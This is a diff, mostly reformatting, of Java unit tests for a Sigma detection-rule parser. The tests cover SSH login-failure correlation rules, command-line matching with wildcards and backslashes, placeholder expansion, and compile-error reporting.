-        private static final String BASE = "title: Fail\nname: fail\nid: base-rule\nlogsource: {product: linux, service: sshd}\n"
-                + "detection:\n  k: ['Failed password']\n  condition: k\n---\n";
+        private static final String BASE =
+                "title: Fail\nname: fail\nid: base-rule\nlogsource: {product: linux, service: sshd}\n"
+                        + "detection:\n  k: ['Failed password']\n  condition: k\n---\n";
 
         @Test
         void eventCountBecomesACountRuleOverTheNamedRule() {
-            List<Rule> rules = compile(BASE + "title: Burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [fail]\n"
-                    + "  group-by: [SourceIp]\n  timespan: 5m\n  condition: {gt: 9}\nlevel: high\n");
+            List<Rule> rules =
+                    compile(BASE + "title: Burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [fail]\n"
+                            + "  group-by: [SourceIp]\n  timespan: 5m\n  condition: {gt: 9}\nlevel: high\n");
             Rule burst = rules.get(1);
             assertThat(burst.kind()).isEqualTo(RuleKind.COUNT);
             assertThat(burst.groupBy()).containsExactly("source.address");
             assertThat(burst.count().min()).isEqualTo(10);
             assertThat(burst.count().within()).hasMinutes(5);
-            assertThat(burst.condition().test(message("Failed password for x", Map.of()))).isTrue();
-            assertThat(rules.get(0).enabled()).as("referenced rules do not alert alone").isFalse();
+            assertThat(burst.condition().test(message("Failed password for x", Map.of())))
+                    .isTrue();
+            assertThat(rules.get(0).enabled())
+                    .as("referenced rules do not alert alone")
+                    .isFalse();
         }
 
         @Test
         void generateKeepsTheReferencedRuleRunning() {
-            List<Rule> rules = compile(BASE + "title: Burst\ncorrelation:\n  type: event_count\n  rules: [base-rule]\n  generate: true\n"
-                    + "  timespan: 5m\n  condition: {gte: 3}\n");
+            List<Rule> rules = compile(
+                    BASE + "title: Burst\ncorrelation:\n  type: event_count\n  rules: [base-rule]\n  generate: true\n"
+                            + "  timespan: 5m\n  condition: {gte: 3}\n");
             assertThat(rules.get(0).enabled()).isTrue();
             assertThat(rules.get(1).groupBy()).containsExactly("host");
         }
 
         @Test
         void valueCountCountsDistinctMappedValues() {
-            Rule rule = compile(BASE + "title: Spray\ncorrelation:\n  type: value_count\n  rules: [fail]\n  group-by: [SourceIp]\n"
-                    + "  timespan: 10m\n  condition: {field: User, gte: 5}\n").get(1);
+            Rule rule = compile(BASE
+                            + "title: Spray\ncorrelation:\n  type: value_count\n  rules: [fail]\n  group-by: [SourceIp]\n"
+                            + "  timespan: 10m\n  condition: {field: User, gte: 5}\n")
+                    .get(1);
             assertThat(rule.count().distinctField()).isEqualTo("user.name");
             assertThat(rule.count().min()).isEqualTo(5);
         }
@@ -365,16 +601,20 @@ class SigmaParserTest {
         @Test
         void temporalOrderedBecomesASequence() {
             Rule rule = compile(BASE + "title: Ok\nname: ok\nlogsource: {product: linux, service: sshd}\ndetection:\n"
-                    + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Then\ncorrelation:\n  type: temporal_ordered\n"
-                    + "  rules: [fail, ok]\n  group-by: [SourceIp]\n  timespan: 10m\n").get(2);
+                            + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Then\ncorrelation:\n  type: temporal_ordered\n"
+                            + "  rules: [fail, ok]\n  group-by: [SourceIp]\n  timespan: 10m\n")
+                    .get(2);
             assertThat(rule.kind()).isEqualTo(RuleKind.SEQUENCE);
             assertThat(rule.sequence().steps()).hasSize(2);
-            assertThat(rule.sequence().steps().get(1).condition().test(message("Accepted password for a", Map.of()))).isTrue();
+            assertThat(rule.sequence().steps().get(1).condition().test(message("Accepted password for a", Map.of())))
+                    .isTrue();
         }
 
         private Rule counted(String condition) {
-            return compile(BASE + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: "
-                    + condition + "\n").get(1);
+            return compile(BASE
+                            + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: "
+                            + condition + "\n")
+                    .get(1);
         }
 
         @Test
@@ -389,7 +629,8 @@ class SigmaParserTest {
                 assertThat(c.decidedAtWindowEnd()).isTrue();
             });
             assertThat(counted("{lte: 3}").count().max()).isEqualTo(3);
-            assertThat(counted("{eq: 4}").count()).satisfies(c -> assertThat(List.of(c.min(), c.max())).containsExactly(4, 4));
+            assertThat(counted("{eq: 4}").count())
+                    .satisfies(c -> assertThat(List.of(c.min(), c.max())).containsExactly(4, 4));
             assertThat(counted("{gte: 2, lte: 5}").count()).satisfies(c -> {
                 assertThat(List.of(c.min(), c.max())).containsExactly(2, 5);
                 assertThat(c.accepts(5)).isTrue();
@@ -399,36 +640,59 @@ class SigmaParserTest {
 
         @Test
         void impossibleOrConflictingConditionsAreReported() {
-            String head = BASE + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: ";
-            assertThat(errors(head + "{lt: 1}\n")).extracting(RuleError::message).singleElement().asString()
+            String head = BASE
+                    + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: ";
+            assertThat(errors(head + "{lt: 1}\n"))
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
                     .contains("can never be met");
-            assertThat(errors(head + "{gt: 5, lt: 6}\n")).extracting(RuleError::message).singleElement().asString()
+            assertThat(errors(head + "{gt: 5, lt: 6}\n"))
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
                     .contains("can never be met");
-            assertThat(errors(head + "{gt: 1, gte: 2}\n")).extracting(RuleError::message).singleElement().asString()
+            assertThat(errors(head + "{gt: 1, gte: 2}\n"))
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
                     .contains("conflicts with 'gt'");
-            assertThat(errors(head + "{eq: 2, lte: 3}\n")).extracting(RuleError::message).singleElement().asString()
+            assertThat(errors(head + "{eq: 2, lte: 3}\n"))
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
                     .contains("conflicts with 'eq'");
-            assertThat(errors(head + "{field: User}\n")).extracting(RuleError::message).singleElement().asString()
+            assertThat(errors(head + "{field: User}\n"))
+                    .extracting(RuleError::message)
+                    .singleElement()
+                    .asString()
                     .contains("needs gte, gt, eq, lt or lte");
         }
 
         @Test
         void temporalCountsTheReferencedRulesMetInAnyOrder() {
             Rule rule = compile(BASE + "title: Ok\nname: ok\nlogsource: {product: linux, service: sshd}\ndetection:\n"
-                    + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Both\ncorrelation:\n  type: temporal\n"
-                    + "  rules: [ok, fail]\n  group-by: [SourceIp]\n  timespan: 10m\n").get(2);
+                            + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Both\ncorrelation:\n  type: temporal\n"
+                            + "  rules: [ok, fail]\n  group-by: [SourceIp]\n  timespan: 10m\n")
+                    .get(2);
             assertThat(rule.kind()).isEqualTo(RuleKind.COUNT);
             assertThat(rule.groupBy()).containsExactly("source.address");
             assertThat(rule.count().parts()).hasSize(2);
             assertThat(rule.count().min()).isEqualTo(2);
-            assertThat(rule.count().parts().get(0).test(message("Accepted password for a", Map.of()))).isTrue();
-            assertThat(rule.count().parts().get(1).test(message("Accepted password for a", Map.of()))).isFalse();
+            assertThat(rule.count().parts().get(0).test(message("Accepted password for a", Map.of())))
+                    .isTrue();
+            assertThat(rule.count().parts().get(1).test(message("Accepted password for a", Map.of())))
+                    .isFalse();
         }
 
         @Test
         void aReferenceToNoRuleIsReported() {
-            assertThat(errors(BASE + "title: X\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 2}\n"))
-                    .extracting(RuleError::line).containsExactly(12);
+            assertThat(
+                            errors(
+                                    BASE
+                                            + "title: X\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 2}\n"))
+                    .extracting(RuleError::line)
+                    .containsExactly(12);
         }
     }
 
@@ -444,14 +708,17 @@ class SigmaParserTest {
             assertThat(question.condition().test(commandLine("echo whyX"))).isFalse();
             // \\* is a backslash, then a wildcard (a glob would read a backslash, then a literal '*')
             Rule backslashThenWildcard = process("  s: {CommandLine|startswith: 'C:\\\\*.exe'}\n  condition: s\n");
-            assertThat(backslashThenWildcard.condition().test(commandLine("C:\\tool.exe /x"))).isTrue();
-            assertThat(backslashThenWildcard.condition().test(commandLine("C:tool.exe /x"))).isFalse();
+            assertThat(backslashThenWildcard.condition().test(commandLine("C:\\tool.exe /x")))
+                    .isTrue();
+            assertThat(backslashThenWildcard.condition().test(commandLine("C:tool.exe /x")))
+                    .isFalse();
         }
 
         @Test
         void aBackslashBeforeAnythingElseIsItself() {
             Rule path = process("  s: {CommandLine|contains: 'C:\\Windows\\System32\\'}\n  condition: s\n");
-            assertThat(path.condition().test(commandLine("run C:\\Windows\\System32\\cmd.exe"))).isTrue();
+            assertThat(path.condition().test(commandLine("run C:\\Windows\\System32\\cmd.exe")))
+                    .isTrue();
             Rule doubled = process("  s: {CommandLine: 'a\\\\b'}\n  condition: s\n");
             assertThat(doubled.condition().test(commandLine("a\\b"))).isTrue();
             assertThat(doubled.condition().test(commandLine("a\\\\b"))).isFalse();
@@ -460,34 +727,50 @@ class SigmaParserTest {
 
     @Nested
     class Expand {
-        private final Placeholders placeholders = Placeholders.of(Map.of(
-                "admin_users", List.of("root", "admin"), "dirs", List.of("/tmp", "/dev/shm")));
+        private final Placeholders placeholders =
+                Placeholders.of(Map.of("admin_users", List.of("root", "admin"), "dirs", List.of("/tmp", "/dev/shm")));
 
         private List<RuleError> expandErrors(String detection, List<Rule> out) {
-            return SigmaParser.parseAll("s.yml", "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
-                    + "detection:\n" + detection, mapping, placeholders, out).errors();
+            return SigmaParser.parseAll(
+                            "s.yml",
+                            "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\n"
+                                    + "detection:\n" + detection,
+                            mapping,
+                            placeholders,
+                            out)
+                    .errors();
         }
 
         @Test
         void aPlaceholderStandsForAnyOfItsValues() {
             List<Rule> rules = new ArrayList<>();
-            assertThat(expandErrors("  s: {User|expand: '%admin_users%', CommandLine|expand|startswith: '%dirs%/'}\n  condition: s\n", rules))
+            assertThat(expandErrors(
+                            "  s: {User|expand: '%admin_users%', CommandLine|expand|startswith: '%dirs%/'}\n  condition: s\n",
+                            rules))
                     .isEmpty();
             Rule rule = rules.get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "admin", "process.command_line", "/dev/shm/x"))))
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("user.name", "admin", "process.command_line", "/dev/shm/x"))))
                     .isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "root", "process.command_line", "/tmp/x"))))
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("user.name", "root", "process.command_line", "/tmp/x"))))
                     .isTrue();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob", "process.command_line", "/tmp/x"))))
+            assertThat(rule.condition()
+                            .test(Fixtures.event(0, "h", Map.of("user.name", "bob", "process.command_line", "/tmp/x"))))
                     .isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "root", "process.command_line", "/var/x"))))
+            assertThat(rule.condition()
+                            .test(Fixtures.event(
+                                    0, "h", Map.of("user.name", "root", "process.command_line", "/var/x"))))
                     .isFalse();
         }
 
         @Test
         void anUndefinedPlaceholderIsACompileErrorOnItsLine() {
             assertThat(expandErrors("  s:\n    User|expand: '%domain_admins%'\n  condition: s\n", new ArrayList<>()))
-                    .singleElement().satisfies(e -> {
+                    .singleElement()
+                    .satisfies(e -> {
                         assertThat(e.line()).isEqualTo(6);
                         assertThat(e.message()).contains("placeholder '%domain_admins%' is not defined");
                     });
@@ -504,7 +787,9 @@ class SigmaParserTest {
     void everySigmaRuleShippedInRulesSigmaCompiles() {
         SigmaCheck.Report report = SigmaCheck.run(Path.of("..", "rules", "sigma"));
         Map<String, String> failures = new HashMap<>();
-        report.outcomes().stream().filter(o -> !o.compiled()).forEach(o -> failures.put(o.file().toString(), o.firstError().toString()));
+        report.outcomes().stream()
+                .filter(o -> !o.compiled())
+                .forEach(o -> failures.put(o.file().toString(), o.firstError().toString()));
         assertThat(failures).isEmpty();
         assertThat(report.outcomes()).hasSizeGreaterThanOrEqualTo(7);
     }
